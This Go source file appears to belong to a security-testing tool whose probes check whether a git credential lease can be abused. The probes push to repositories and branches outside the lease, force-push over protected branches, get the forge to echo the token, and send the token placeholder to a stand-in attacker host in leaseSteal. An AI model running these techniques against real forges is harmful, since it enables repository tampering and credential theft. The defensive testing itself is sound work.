package tok

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"

	"github.com/wallproof/wallproof/attest/manifest"
	"github.com/wallproof/wallproof/probes"
	"github.com/wallproof/wallproof/probes/kit"
	"github.com/wallproof/wallproof/probes/paths"
)

const receivePack = "git-receive-pack"

// repository is a request to a git repository over smart HTTP.
func repository(env *probes.Env, repo, suffix string) (*kit.Request, error) {
	u, err := url.Parse(repo)
	if err != nil || u.Hostname() == "" {
		return nil, fmt.Errorf("read the repository's address %q: no URL", repo)
	}
	r := &kit.Request{Scheme: u.Scheme, Host: u.Hostname(), Path: strings.TrimSuffix(u.Path, "/") + suffix,
		Header: []string{basic(env.Facts.Broker.Placeholder)}}
	if u.Port() != "" {
		if r.Port, err = strconv.Atoi(u.Port()); err != nil {
			return nil, fmt.Errorf("read the repository's address %q: %w", repo, err)
		}
	}
	return r, nil
}

// leaseRepository asks to write to a repository that the lease is not for. To
// have been let through to ask is the escape.
func leaseRepository(ctx context.Context, env *probes.Env) manifest.Observation {
	r, err := repository(env, env.Facts.Broker.OtherRepo, "/info/refs?service="+receivePack)
	if err != nil {
		return kit.Sign(err)
	}
	list := []*kit.Request{r}
	for _, let := range env.Facts.Broker.LetRepos {
		r, err := repository(env, let, "/info/refs?service="+receivePack)
		if err != nil {
			return kit.Sign(err)
		}
		list = append(list, r)
	}
	return kit.Fetch(ctx, env, list...)
}

// leaseRef pushes a new branch outside the lease's pattern, and whatever the proxy says it
// lets be pushed besides.
func leaseRef(ctx context.Context, env *probes.Env) manifest.Observation {
	o := pushNew(ctx, env, "refs/heads/"+env.Nonce)
	for _, ref := range env.Facts.Broker.LetRefs {
		if pattern, ok := strings.CutSuffix(ref, "*"); ok {
			o = kit.Worse(o, pushNew(ctx, env, pattern+env.Nonce))
			continue
		}
		o = kit.Worse(o, push(ctx, env, func(refs map[string]string) (update, error) {
			commit, pack := orphan("wallproof " + env.Nonce)
			old := zeroID
			if id, there := refs[ref]; there {
				old = id
			}
			return update{old: old, new: commit, ref: ref, pack: pack}, nil
		}))
	}
	return o
}

// pushNew makes a branch of what another one has.
func pushNew(ctx context.Context, env *probes.Env, ref string) manifest.Observation {
	return push(ctx, env, func(refs map[string]string) (update, error) {
		_, head, err := someBranch(refs, env.Facts.Broker.OtherRef)
		return update{old: zeroID, new: head, ref: ref, pack: emptyPack()}, err
	})
}

// leaseForce replaces a protected branch by a history of its own, and then one that
// it may push to, which it has made before.
func leaseForce(ctx context.Context, env *probes.Env) manifest.Observation {
	o := forceProtected(ctx, env)
	ref := env.Facts.Broker.Ref
	if o.Sign == manifest.SignAnswered || ref == "" {
		return o
	}
	if strings.HasSuffix(ref, "wallproof") { // made of a pattern
		ref += "-" + env.Nonce
	}
	made := push(ctx, env, func(refs map[string]string) (update, error) {
		_, head, err := someBranch(refs, env.Facts.Broker.OtherRef)
		old := zeroID
		if id, there := refs[ref]; there {
			old = id
		}
		return update{old: old, new: head, ref: ref, pack: emptyPack()}, err
	})
	if made.Sign != manifest.SignAnswered {
		return o // there is no such branch to replace
	}
	return kit.Worse(o, push(ctx, env, func(refs map[string]string) (update, error) {
		commit, pack := orphan("wallproof forced " + env.Nonce)
		if refs[ref] == "" {
			return update{}, errNoBranch
		}
		return update{old: refs[ref], new: commit, ref: ref, pack: pack}, nil
	}))
}

func forceProtected(ctx context.Context, env *probes.Env) manifest.Observation {
	return push(ctx, env, func(refs map[string]string) (update, error) {
		ref, head, err := someBranch(refs, env.Facts.Broker.OtherRef)
		commit, pack := orphan("wallproof " + env.Nonce)
		return update{old: head, new: commit, ref: ref, pack: pack}, err
	})
}

// maxPushes is how often a push is tried again when another one, of the same
// technique by another way, came in between.
const maxPushes = 8

// push does what a git client does: it asks for the refs, then sends an update.
func push(ctx context.Context, env *probes.Env, choose func(refs map[string]string) (update, error)) manifest.Observation {
	t := kit.Begin(env)
	defer t.End()
	var o manifest.Observation
	for range maxPushes {
		if o = pushOnce(ctx, t, choose); !strings.HasPrefix(o.Detail, "ng ") {
			break
		}
	}
	return t.Done(o)
}

func pushOnce(ctx context.Context, t *kit.Try, choose func(refs map[string]string) (update, error)) manifest.Observation {
	env := t.Env
	way, v6 := kit.WayOf(env.Variant)
	ask, err := repository(env, env.Facts.Broker.Repo, "/info/refs?service="+receivePack)
	if err != nil {
		return kit.Sign(err)
	}
	a, err := t.HTTP(ctx, way, v6, ask)
	if err != nil {
		return kit.Sign(err)
	}
	if a.Status != http.StatusOK {
		return answered(kit.Observe(a))
	}
	u, err := choose(parseRefs(a.Body))
	if err != nil {
		return kit.Sign(err)
	}
	send, err := repository(env, env.Facts.Broker.Repo, "/"+receivePack)
	if err != nil {
		return kit.Sign(err)
	}
	send.Method = http.MethodPost
	send.Header = append(send.Header, "Content-Type: application/x-git-receive-pack-request", "Accept: application/x-git-receive-pack-result")
	send.Body = u.bytes()
	b, err := t.HTTP(ctx, way, v6, send)
	if err != nil {
		return kit.Sign(err)
	}
	o := answered(kit.Observe(b))
	if o.Sign == manifest.SignAnswered {
		// The report of a refused update is a refusal too (git's report-status).
		if line := reportOf(b.Body, u.ref); strings.HasPrefix(line, "ng ") {
			o.Sign, o.Detail = manifest.SignRefused, line
		}
	}
	return o
}

// answered says of an exchange with the forge, which the policy allows, that its
// proof is none.
func answered(o manifest.Observation) manifest.Observation {
	if o.Sign == manifest.SignReached && len(o.Obtained) == 0 {
		o.Sign = manifest.SignAnswered
	}
	return o
}

// leaseEcho asks the forge's host to repeat the token: below the repository, and at the
// forge's interface, where a reader gets a lease as well.
func leaseEcho(ctx context.Context, env *probes.Env) manifest.Observation {
	var list []*kit.Request
	for _, encoding := range []string{paths.EncodingError, paths.EncodingBase64, paths.EncodingHeader} {
		query := url.Values{paths.QueryEncoding: {encoding}}
		r, err := repository(env, env.Facts.Broker.Repo, paths.Build("", paths.Echo, env.Nonce, query))
		if err != nil {
			return kit.Sign(err)
		}
		api, err := forgeAPI(env, http.MethodGet, paths.Build("/repos/OWNER/REPO", paths.Echo, env.Nonce, query), "")
		if err != nil {
			return kit.Sign(err)
		}
		list = append(list, r, api)
	}
	return all(ctx, env, list...)
}

// leaseSteal speaks git to the attacker's host.
func leaseSteal(ctx context.Context, env *probes.Env) manifest.Observation {
	r := attacker(env, "https")
	if way, _ := kit.WayOf(env.Variant); way == kit.Absolute {
		r.Scheme = "http"
	}
	r.Path = "/" + env.Nonce + "/repo.git/info/refs?service=" + receivePack
	r.Header = []string{basic(env.Facts.Broker.Placeholder)}
	return web(ctx, env, r)
}
